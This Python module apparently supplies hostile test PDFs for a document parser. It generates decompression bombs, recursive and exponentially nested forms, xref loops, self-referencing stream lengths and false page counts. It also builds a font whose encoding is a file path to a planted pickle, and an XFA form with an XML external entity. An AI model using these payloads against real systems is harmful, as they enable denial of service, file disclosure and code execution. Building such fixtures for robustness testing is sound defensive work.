"""Hostile PDFs, written by hand: bombs of memory and time, lies about pages, boxes and lengths, damaged structures."""

from __future__ import annotations

import io
import zlib
from collections.abc import Mapping

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

LINES = (
    "COMMERCIAL INVOICE",
    "Invoice No. HX-2026-0417",
    "Seller: Brightwater Garden Tools Co., Ltd.",
    "Buyer: Larkspur Home Supply LLC",
    "Total amount USD 45,210.00",
)
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_KID = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def invoice(password: str | None = None, owner: str = "owner") -> bytes:
    """An honest paper, locked where a password is given (an empty one opens it)."""
    lock = None if password is None else StandardEncryption(password, ownerPassword=owner, canPrint=1)
    held = io.BytesIO()
    canvas = Canvas(held, pagesize=(612, 792), invariant=1, encrypt=lock)
    for row, line in enumerate(LINES):
        canvas.drawString(72, 700 - 20 * row, line)
    canvas.showPage()
    canvas.save()
    return held.getvalue()


def written(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, number 1 its catalog, with a sound table of where they lie."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %c \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), extra, content)


def page(content: bytes, box: bytes = b"0 0 612 792", extra: bytes = b"", resources: bytes = b"") -> dict[int, bytes]:
    """The objects of a PDF of one page."""
    with_font = b"<</Font<</F1 5 0 R>>%s>>" % resources
    kid = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources%s>>" % (box, with_font)
    return {1: CATALOG, 2: ONE_KID, 3: kid, 4: stream(content, extra), 5: FONT}


def said(text: bytes) -> bytes:
    """A content stream that writes one line."""
    return b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % text


def zero_pages() -> bytes:
    return written({1: CATALOG, 2: b"<</Type/Pages/Kids[]/Count 0>>"})


def states_three_pages() -> bytes:
    return written({**page(said(b"Only this page")), 2: b"<</Type/Pages/Kids[3 0 R]/Count 3>>"})


def form_recursion() -> bytes:
    """A form that draws itself."""
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 6 0 R>>>>")
    return written({**page(b"/X Do", resources=b"/XObject<</X 6 0 R>>"), 6: form})


def form_exponential(depth: int = 25) -> bytes:
    """Each of ``depth`` forms draws the next one twice."""
    forms = {}
    for n in range(depth):
        inner = b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + n) if n + 1 < depth else b""
        content = b"/X Do /X Do" if n + 1 < depth else b"0 0 1 1 re f"
        forms[6 + n] = stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]" + inner)
    return written({**page(b"/X Do", resources=b"/XObject<</X 6 0 R>>"), **forms})


def flate_bomb(gigabytes: float = 1.0, *, double: bool = False) -> bytes:
    """A content stream that inflates to so many gigabytes of nothing, deflated once or twice."""
    packer, piece, parts = zlib.compressobj(9), b" " * (1 << 24), []
    for _ in range(int(gigabytes * 64)):
        parts.append(packer.compress(piece))
    data = b"".join([*parts, packer.flush()])
    filters = b"/Filter/FlateDecode"
    if double:
        data, filters = zlib.compress(data, 9), b"/Filter[/FlateDecode/FlateDecode]"
    return written(page(data, extra=filters))


def many_pages(count: int = 20_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    tree = {1: CATALOG, 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)}
    return written({**tree, **{3 + n: leaf for n in range(count)}})


def media_box(numbers: bytes) -> bytes:
    return written(page(said(b"Strange paper size"), box=numbers))


def previous_loop() -> bytes:
    """A table of objects that names itself as the one before it."""
    once = written(page(said(b"Round and round")))
    start = once.rindex(b"xref\n0")
    return once.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def own_length() -> bytes:
    """A stream whose length is the stream itself."""
    found = page(said(b"How long am I, asks the stream of itself"))
    content = said(b"How long am I, asks the stream of itself")
    return written({**found, 4: b"<</Length 4 0 R>>stream\n%s\nendstream" % content})


def many_lines(count: int = 300_000) -> bytes:
    lines = b"\n".join(b"%d %d m %d %d l S" % (n % 612, n % 792, n * 7 % 612, n * 13 % 792) for n in range(count))
    return written(page(zlib.compress(said(b"Many lines") + b"\n" + lines), extra=b"/Filter/FlateDecode"))


def many_characters(count: int = 6_000_000) -> bytes:
    """A page on which one line of words is printed over and over."""
    line = b"(abcdefghi ) Tj " * (count // 10)
    return written(page(zlib.compress(b"BT /F1 1 Tf 10 10 Td " + line + b"ET"), extra=b"/Filter/FlateDecode"))


def foreign_table(place: bytes) -> bytes:
    """A font whose table of characters is a path of the file system (a pickle lies there)."""
    name = b"".join(b"#%02x" % c for c in place)
    font = b"<</Type/Font/Subtype/Type0/BaseFont/Fake/Encoding/%s/DescendantFonts[6 0 R]>>" % name
    order = b"<</Registry(Adobe)/Ordering(GB1)/Supplement 0>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/Fake/CIDSystemInfo%s>>" % order
    return written({**page(said(b"Hello")), 5: font, 6: below})


def entity_form(target: str) -> bytes:
    """A form (XFA) that asks for another file through an XML entity."""
    xml = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{target}">]><xdp>&e;</xdp>'.encode()
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>"
    return written({**page(said(b"An honest line of a form")), 1: catalog, 6: stream(xml)})
